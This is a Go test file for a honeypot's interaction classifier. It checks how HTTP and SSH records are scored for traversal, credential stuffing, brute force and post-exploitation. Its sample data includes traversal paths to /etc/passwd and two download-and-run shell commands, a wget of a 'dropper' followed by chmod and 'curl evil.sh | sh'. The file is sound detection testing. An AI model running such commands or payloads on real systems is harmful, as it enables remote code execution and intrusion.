package classify_test

import (
	"net/netip"
	"reflect"
	"testing"

	"github.com/project-guardian/guardian/internal/classify"
	"github.com/project-guardian/guardian/internal/intake/model"
)

func record(kind string, data map[string]any) *model.InteractionRecord {
	if data == nil {
		data = map[string]any{}
	}
	return &model.InteractionRecord{
		SourceIP:        netip.MustParseAddr("203.0.113.7"),
		HoneypotKind:    kind,
		InteractionData: data,
		Status:          "logged",
	}
}

func hasIndicator(v classify.Verdict, name string) bool {
	for _, ind := range v.Indicators {
		if ind == name {
			return true
		}
	}
	return false
}

func TestClassify_unknownKindDefaults(t *testing.T) {
	for _, kind := range []string{"ftp", "telnet", "smtp", "x"} {
		v := classify.Classify(record(kind, map[string]any{"request_path": "/../../etc/passwd"}))

		if len(v.Indicators) != 0 {
			t.Errorf("kind %q: expected no indicators, got %v", kind, v.Indicators)
		}
		if v.ScannerType != classify.ScannerUnknown {
			t.Errorf("kind %q: scanner = %q, want unknown", kind, v.ScannerType)
		}
		if v.ThreatLevel != classify.ThreatLow {
			t.Errorf("kind %q: threat level = %q, want low", kind, v.ThreatLevel)
		}
		if v.ScanPattern != classify.PatternUnknown {
			t.Errorf("kind %q: scan pattern = %q, want unknown", kind, v.ScanPattern)
		}
		if v.Indicators == nil {
			t.Errorf("kind %q: indicators must be an empty slice, not nil", kind)
		}
	}
}

func TestClassify_httpTraversalWithNmapUA(t *testing.T) {
	v := classify.Classify(record("http", map[string]any{
		"request_path": "/../../etc/passwd",
		"method":       "GET",
		"user_agent":   "Mozilla/5.0 Nmap Scripting Engine",
	}))

	if !hasIndicator(v, "Directory Traversal") {
		t.Errorf("missing Directory Traversal indicator: %v", v.Indicators)
	}
	if !hasIndicator(v, "Known Scanner") {
		t.Errorf("missing Known Scanner indicator: %v", v.Indicators)
	}
	if v.ScannerType != "Nmap" {
		t.Errorf("scanner = %q, want Nmap", v.ScannerType)
	}
	if v.ScanPattern != "directory-traversal" {
		t.Errorf("pattern = %q, want directory-traversal", v.ScanPattern)
	}
	if v.ThreatLevel != classify.ThreatHigh && v.ThreatLevel != classify.ThreatCritical {
		t.Errorf("threat level = %q, want high or critical", v.ThreatLevel)
	}
	if v.ToolConfidence < 0.75 {
		t.Errorf("confidence = %v, want >= 0.75", v.ToolConfidence)
	}
	if v.IsRealBrowser {
		t.Error("scanner traffic must not be flagged as a real browser")
	}
}

func TestClassify_httpDoubleEncodedTraversal(t *testing.T) {
	// One decode pass turns %252e%252e into %2e%2e, which the marker
	// list matches literally.
	v := classify.Classify(record("http", map[string]any{
		"request_path": "/download",
		"query_string": "file=%252e%252e%252fpasswd",
	}))

	if !hasIndicator(v, "Directory Traversal") {
		t.Errorf("double-encoded traversal not detected: %v", v.Indicators)
	}
}

func TestClassify_httpCredentialStuffing(t *testing.T) {
	v := classify.Classify(record("http", map[string]any{
		"method":      "POST",
		"parsed_body": map[string]any{"username": "admin", "password": "Password1!"},
	}))

	if !hasIndicator(v, "Credential-Stuffing") {
		t.Errorf("missing Credential-Stuffing indicator: %v", v.Indicators)
	}
	if hasIndicator(v, "Directory Traversal") {
		t.Errorf("unexpected Directory Traversal indicator: %v", v.Indicators)
	}
	if v.ScanPattern != "credential-stuffing" {
		t.Errorf("pattern = %q, want credential-stuffing", v.ScanPattern)
	}
}

func TestClassify_httpCredentialStuffingVariants(t *testing.T) {
	cases := []struct {
		name string
		data map[string]any
		want bool
	}{
		{
			name: "list-valued password field",
			data: map[string]any{
				"method":      "POST",
				"parsed_body": map[string]any{"password": []any{"a", "b", "c"}},
			},
			want: true,
		},
		{
			name: "credentials key",
			data: map[string]any{
				"method":      "PUT",
				"parsed_body": map[string]any{"credentials": "dump.txt"},
			},
			want: true,
		},
		{
			name: "GET is not credential stuffing",
			data: map[string]any{
				"method":      "GET",
				"parsed_body": map[string]any{"username": "admin", "password": "x"},
			},
			want: false,
		},
		{
			name: "username without password",
			data: map[string]any{
				"method":      "POST",
				"parsed_body": map[string]any{"username": "admin"},
			},
			want: false,
		},
		{
			name: "empty password value",
			data: map[string]any{
				"method":      "POST",
				"parsed_body": map[string]any{"username": "admin", "password": ""},
			},
			want: false,
		},
	}

	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			v := classify.Classify(record("http", tc.data))
			if got := hasIndicator(v, "Credential-Stuffing"); got != tc.want {
				t.Errorf("Credential-Stuffing = %v, want %v (indicators %v)", got, tc.want, v.Indicators)
			}
		})
	}
}

func TestClassify_httpScannerTableOrder(t *testing.T) {
	// A UA matching several table entries resolves to the first one.
	v := classify.Classify(record("http", map[string]any{
		"user_agent": "sqlmap via nmap wrapper",
	}))
	if v.ScannerType != "Nmap" {
		t.Errorf("scanner = %q, want Nmap (first table match wins)", v.ScannerType)
	}
}

func TestClassify_httpHeadlessClient(t *testing.T) {
	v := classify.Classify(record("http", map[string]any{
		"user_agent": "Java/1.8.0_292 HttpClient",
	}))

	if v.ScannerType != "Headless/Scripted Client" {
		t.Errorf("scanner = %q, want Headless/Scripted Client", v.ScannerType)
	}
	if hasIndicator(v, "Known Scanner") {
		t.Error("headless match must not add the Known Scanner indicator")
	}
	if v.ScanPattern != "automation" {
		t.Errorf("pattern = %q, want automation", v.ScanPattern)
	}
	if v.IsRealBrowser {
		t.Error("headless client flagged as real browser")
	}
}

func TestClassify_httpRealBrowser(t *testing.T) {
	v := classify.Classify(record("http", map[string]any{
		"user_agent": "Mozilla/5.0 (Windows NT 10.0) Chrome/120.0",
	}))

	if !v.IsRealBrowser {
		t.Error("expected IsRealBrowser for a Chrome UA")
	}
	if v.ScannerType != "Browser" {
		t.Errorf("scanner = %q, want Browser", v.ScannerType)
	}
	if v.ScanPattern != "probing" {
		t.Errorf("pattern = %q, want probing", v.ScanPattern)
	}
	if v.ThreatLevel != classify.ThreatLow {
		t.Errorf("threat level = %q, want low", v.ThreatLevel)
	}
}

func TestClassify_httpUnrecognizedUAStillProbing(t *testing.T) {
	v := classify.Classify(record("http", map[string]any{
		"user_agent": "totally-custom-agent/0.1",
	}))

	if v.ScanPattern != "probing" {
		t.Errorf("pattern = %q, want probing", v.ScanPattern)
	}
	if v.ScannerType != classify.ScannerUnknown {
		t.Errorf("scanner = %q, want unknown", v.ScannerType)
	}
	if v.IsRealBrowser {
		t.Error("unrecognized UA must not be a real browser")
	}
}

func TestClassify_httpVolumeAndTiming(t *testing.T) {
	cases := []struct {
		name        string
		data        map[string]any
		wantPattern string
	}{
		{"sweeping scan", map[string]any{"request_count": 120}, "sweeping-scan"},
		{"multi request", map[string]any{"request_count": 15}, "multi-request"},
		{"rapid scan", map[string]any{"average_interval_ms": 100.0}, "rapid-scan"},
		{"slow probing", map[string]any{"average_interval_ms": "3500"}, "slow-probing"},
		{"numeric strings accepted", map[string]any{"request_count": "75"}, "sweeping-scan"},
		{"malformed count ignored", map[string]any{"request_count": "lots"}, classify.PatternUnknown},
	}

	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			v := classify.Classify(record("http", tc.data))
			if v.ScanPattern != tc.wantPattern {
				t.Errorf("pattern = %q, want %q", v.ScanPattern, tc.wantPattern)
			}
		})
	}
}

func TestClassify_slowProbingDoesNotDemoteSweep(t *testing.T) {
	// A high request count sets sweeping-scan at priority 3; the slow
	// interval candidate (priority 2) must not replace it.
	v := classify.Classify(record("http", map[string]any{
		"request_count":       200,
		"average_interval_ms": 5000,
	}))
	if v.ScanPattern != "sweeping-scan" {
		t.Errorf("pattern = %q, want sweeping-scan", v.ScanPattern)
	}
}

func TestClassify_laterCheckWinsPatternTies(t *testing.T) {
	// Scanner UA proposes reconnaissance at priority 2; the later volume
	// check proposes multi-request at the same priority and wins the tie.
	v := classify.Classify(record("http", map[string]any{
		"user_agent":    "curl/8.0",
		"request_count": 12,
	}))
	if v.ScanPattern != "multi-request" {
		t.Errorf("pattern = %q, want multi-request (later check wins ties)", v.ScanPattern)
	}
	if v.ScannerType != "cURL" {
		t.Errorf("scanner = %q, want cURL", v.ScannerType)
	}
}

func TestClassify_sshBruteForceWithLibsshBanner(t *testing.T) {
	v := classify.Classify(record("ssh", map[string]any{
		"username_attempt":        "root",
		"password_attempt":        "123456",
		"client_banner":           "SSH-2.0-libssh_0.9.6",
		"authentication_failures": 5,
	}))

	if !hasIndicator(v, "SSH-Bruteforce") {
		t.Errorf("missing SSH-Bruteforce indicator: %v", v.Indicators)
	}
	if !hasIndicator(v, "Known Scanner") {
		t.Errorf("missing Known Scanner indicator: %v", v.Indicators)
	}
	if v.ScannerType != "libssh" {
		t.Errorf("scanner = %q, want libssh", v.ScannerType)
	}
	if v.ThreatLevel != classify.ThreatHigh && v.ThreatLevel != classify.ThreatCritical {
		t.Errorf("threat level = %q, want high or critical", v.ThreatLevel)
	}
	if v.ScanPattern != "ssh-bruteforce" {
		t.Errorf("pattern = %q, want ssh-bruteforce", v.ScanPattern)
	}
}

func TestClassify_sshBruteForceTriggers(t *testing.T) {
	cases := []struct {
		name string
		data map[string]any
		want bool
	}{
		{"common username", map[string]any{"username_attempt": "Admin"}, true},
		{"weak password", map[string]any{"password_attempt": "qwerty"}, true},
		{"failure count", map[string]any{"authentication_failures": 3}, true},
		{"failure count as string", map[string]any{"authentication_failures": "4"}, true},
		{"unique credentials", map[string]any{"username_attempt": "deploy", "password_attempt": "S3cure!pass"}, false},
		{"malformed failure count", map[string]any{"authentication_failures": "several"}, false},
	}

	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			v := classify.Classify(record("ssh", tc.data))
			if got := hasIndicator(v, "SSH-Bruteforce"); got != tc.want {
				t.Errorf("SSH-Bruteforce = %v, want %v", got, tc.want)
			}
		})
	}
}

func TestClassify_sshPostExploitation(t *testing.T) {
	v := classify.Classify(record("ssh", map[string]any{
		"username_attempt": "deploy",
		"command_executed": "wget http://198.51.100.1/dropper && chmod +x dropper",
	}))

	if v.ScanPattern != "post-exploitation" {
		t.Errorf("pattern = %q, want post-exploitation", v.ScanPattern)
	}
	// Command execution bumps score and confidence but adds no named indicator.
	if len(v.Indicators) != 0 {
		t.Errorf("unexpected indicators: %v", v.Indicators)
	}
	if v.ToolConfidence < 0.75 {
		t.Errorf("confidence = %v, want >= 0.75", v.ToolConfidence)
	}
}

func TestClassify_sshPersistentAccess(t *testing.T) {
	v := classify.Classify(record("ssh", map[string]any{
		"session_duration_ms": 600000,
	}))
	if v.ScanPattern != "persistent-access" {
		t.Errorf("pattern = %q, want persistent-access", v.ScanPattern)
	}
	if v.ThreatLevel != classify.ThreatLow {
		t.Errorf("persistence alone must not raise the score: level = %q", v.ThreatLevel)
	}
}

func TestClassify_bruteForceOutranksPersistence(t *testing.T) {
	v := classify.Classify(record("ssh", map[string]any{
		"username_attempt":    "root",
		"session_duration_ms": 900000,
	}))
	if v.ScanPattern != "ssh-bruteforce" {
		t.Errorf("pattern = %q, want ssh-bruteforce (priority 5 beats 3)", v.ScanPattern)
	}
}

func TestClassify_idempotent(t *testing.T) {
	rec := record("http", map[string]any{
		"request_path":  "/..%2f..%2fetc/passwd",
		"method":        "GET",
		"user_agent":    "gobuster/3.5",
		"request_count": 80,
	})

	first := classify.Classify(rec)
	second := classify.Classify(rec)
	if !reflect.DeepEqual(first, second) {
		t.Errorf("classification not idempotent:\nfirst  %+v\nsecond %+v", first, second)
	}
}

func TestClassify_traversalMonotonicity(t *testing.T) {
	clean := record("http", map[string]any{
		"request_path": "/index.html",
		"method":       "GET",
		"user_agent":   "Mozilla/5.0 Firefox/115.0",
	})
	dirty := record("http", map[string]any{
		"request_path": "/index.html?f=../../etc/passwd",
		"method":       "GET",
		"user_agent":   "Mozilla/5.0 Firefox/115.0",
	})

	cv := classify.Classify(clean)
	dv := classify.Classify(dirty)

	if dv.ToolConfidence < cv.ToolConfidence {
		t.Errorf("adding a traversal marker decreased confidence: %v -> %v", cv.ToolConfidence, dv.ToolConfidence)
	}
	if levelRank(dv.ThreatLevel) < levelRank(cv.ThreatLevel) {
		t.Errorf("adding a traversal marker decreased threat level: %v -> %v", cv.ThreatLevel, dv.ThreatLevel)
	}
}

func levelRank(l classify.ThreatLevel) int {
	switch l {
	case classify.ThreatCritical:
		return 3
	case classify.ThreatHigh:
		return 2
	case classify.ThreatMedium:
		return 1
	default:
		return 0
	}
}

func TestClassify_confidenceBounds(t *testing.T) {
	records := []*model.InteractionRecord{
		record("http", nil),
		record("ssh", nil),
		record("other", nil),
		record("http", map[string]any{
			"request_path":        "/../../etc/passwd",
			"method":              "POST",
			"parsed_body":         map[string]any{"username": "a", "password": "b"},
			"user_agent":          "nikto/2.5",
			"request_count":       999,
			"average_interval_ms": 10,
		}),
		record("ssh", map[string]any{
			"username_attempt":        "root",
			"password_attempt":        "toor",
			"authentication_failures": 99,
			"client_banner":           "paramiko_2.7",
			"command_executed":        "curl evil.sh | sh",
			"session_duration_ms":     999999,
		}),
	}

	for i, rec := range records {
		v := classify.Classify(rec)
		if v.ToolConfidence < 0 || v.ToolConfidence > 1 {
			t.Errorf("record %d: confidence %v out of [0,1]", i, v.ToolConfidence)
		}
		rounded := float64(int(v.ToolConfidence*100+0.5)) / 100
		if v.ToolConfidence != rounded {
			t.Errorf("record %d: confidence %v not rounded to 2 decimals", i, v.ToolConfidence)
		}
	}
}

func TestClassify_emptyBagLowVerdict(t *testing.T) {
	for _, kind := range []string{"http", "ssh"} {
		v := classify.Classify(record(kind, nil))
		if v.ThreatLevel != classify.ThreatLow {
			t.Errorf("kind %q: empty bag should be low, got %q", kind, v.ThreatLevel)
		}
		if v.ToolConfidence != 0.2 {
			t.Errorf("kind %q: baseline confidence = %v, want 0.2", kind, v.ToolConfidence)
		}
	}
}
